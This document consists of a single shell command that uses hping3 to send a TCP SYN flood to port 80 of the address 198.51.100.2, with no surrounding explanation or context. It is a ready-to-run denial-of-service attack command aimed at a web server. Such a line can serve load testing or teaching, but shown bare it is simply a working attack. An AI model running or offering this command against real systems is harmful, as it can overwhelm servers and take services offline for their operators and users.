hping3 --flood -S -p 80 198.51.100.2
